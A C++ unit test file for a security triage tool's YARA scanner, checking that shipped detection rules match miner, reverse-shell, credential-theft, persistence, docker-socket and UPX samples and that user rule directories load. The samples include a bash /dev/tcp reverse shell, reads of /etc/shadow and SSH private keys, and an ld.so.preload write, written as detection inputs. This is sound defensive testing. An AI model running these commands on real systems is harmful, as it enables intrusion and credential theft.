// YARA in triage: the shipped rules compile and match what they are for
// (and not the near misses), user rule directories add rules, and a broken
// or missing rule directory is an error naming the file and line. Skips
// when the build has no libyara.
#include "respond/yara_scan.hpp"

#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <string>

#include "respond/triage.hpp"
#include "test_support.hpp"

namespace bulwark::respond {
namespace {

std::span<const uint8_t> Bytes(const std::string& s) {
  return {reinterpret_cast<const uint8_t*>(s.data()), s.size()};
}

std::vector<std::string> Rules(const std::string& data, const YaraOptions& options = {}) {
  auto r = YaraScan(Bytes(data), options);
  EXPECT_TRUE(r.ok()) << r.status().message();
  std::vector<std::string> out;
  if (r.ok()) {
    for (const auto& m : *r) out.push_back(m.rule);
  }
  return out;
}

bool Has(const std::vector<std::string>& v, const std::string& s) {
  return std::find(v.begin(), v.end(), s) != v.end();
}

#define REQUIRE_YARA() \
  if (!YaraAvailable()) GTEST_SKIP() << "SKIPPED: this build has no libyara (install libyara-dev)"

TEST(YaraScan, ShippedRulesCompileAndStayQuietOnNothing) {
  REQUIRE_YARA();
  ASSERT_FALSE(ShippedYaraRules().empty());
  EXPECT_TRUE(Rules("").empty());
  EXPECT_TRUE(Rules("hello world, an ordinary program").empty());
}

TEST(YaraScan, ShippedRulesMatchTheirTargets) {
  REQUIRE_YARA();
  EXPECT_TRUE(Has(Rules("-o stratum+tcp://pool:3333"), "BULWARK_Miner_Pool_Or_Options"));
  EXPECT_TRUE(Has(Rules("xmrig --donate-level 1"), "BULWARK_Miner_Pool_Or_Options"));
  EXPECT_FALSE(Has(Rules("xmrig"), "BULWARK_Miner_Pool_Or_Options"));  // one word is not enough
  EXPECT_TRUE(Has(Rules("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), "BULWARK_Reverse_Shell"));
  EXPECT_FALSE(Has(Rules("bash -i"), "BULWARK_Reverse_Shell"));
  EXPECT_TRUE(Has(Rules("cat /etc/shadow; cat /root/.ssh/id_rsa"), "BULWARK_Credential_Theft"));
  EXPECT_FALSE(Has(Rules("/etc/shadow"), "BULWARK_Credential_Theft"));
  EXPECT_TRUE(Has(Rules("echo /tmp/x.so > /etc/ld.so.preload"), "BULWARK_Persistence"));
  EXPECT_TRUE(Has(Rules("POST /containers/create via /var/run/docker.sock"), "BULWARK_Docker_Socket_Abuse"));
  EXPECT_FALSE(Has(Rules("/var/run/docker.sock"), "BULWARK_Docker_Socket_Abuse"));
  std::string upx("\x7f" "ELF", 4);  // appended: GCC 12 warns falsely on operator+ chains
  upx.append(60, '\0');
  upx += "UPX!....UPX0";
  EXPECT_TRUE(Has(Rules(upx), "BULWARK_Packer_UPX"));
  EXPECT_FALSE(Has(Rules("UPX!....UPX0"), "BULWARK_Packer_UPX"));  // not an ELF
}

TEST(YaraScan, MetaBecomesSeverityAndTechniques) {
  REQUIRE_YARA();
  auto r = YaraScan(Bytes("stratum+ssl://x:1"), {});
  ASSERT_TRUE(r.ok());
  ASSERT_EQ(r->size(), 1u);
  EXPECT_EQ((*r)[0].severity, "high");
  EXPECT_EQ((*r)[0].attack, "T1496");
  EXPECT_EQ((*r)[0].source, "bulwark");
  EXPECT_EQ((*r)[0].tags, std::vector<std::string>{"miner"});
}

TEST(YaraScan, UserRuleDirectories) {
  REQUIRE_YARA();
  auto dir = bulwark::testing::MakeTempDir("triage-yara");
  bulwark::testing::WriteFile(dir / "mine.yar",
                              "rule Team_Marker { meta: severity = \"high\" attack = \"T1036\" "
                              "strings: $a = \"EASTER-EGG-42\" condition: $a }\n");
  bulwark::testing::WriteFile(dir / "notes.txt", "not a rule file");
  YaraOptions options;
  options.shipped = false;
  options.rule_dirs = {dir.string()};
  EXPECT_EQ(Rules("xx EASTER-EGG-42 xx", options), std::vector<std::string>{"Team_Marker"});

  TriageOptions triage;
  triage.yara_options.rule_dirs = {dir.string()};
  auto report = TriageBytes(Bytes("xx EASTER-EGG-42 xx"), "egg", triage);
  ASSERT_TRUE(report.ok());
  EXPECT_TRUE(report->yara_ran);
  auto& attack = report->assessment.attack;
  EXPECT_NE(std::find(attack.begin(), attack.end(), "T1036"), attack.end());
  EXPECT_EQ(report->assessment.score, 40);

  bulwark::testing::WriteFile(dir / "broken.yar", "rule Broken {\n condition: $nothing\n}\n");
  auto broken = YaraScan(Bytes("x"), options);
  ASSERT_FALSE(broken.ok());
  EXPECT_EQ(broken.status().code(), core::ErrorCode::kParseError);
  EXPECT_NE(broken.status().message().find("$nothing"), std::string::npos);
  EXPECT_NE(broken.status().message().find("broken.yar:"), std::string::npos) << broken.status().message();

  options.rule_dirs = {(dir / "missing").string()};
  auto missing = YaraScan(Bytes("x"), options);
  ASSERT_FALSE(missing.ok());
  EXPECT_EQ(missing.status().code(), core::ErrorCode::kNotFound);
  std::filesystem::remove_all(dir);
}

}  // namespace
}  // namespace bulwark::respond
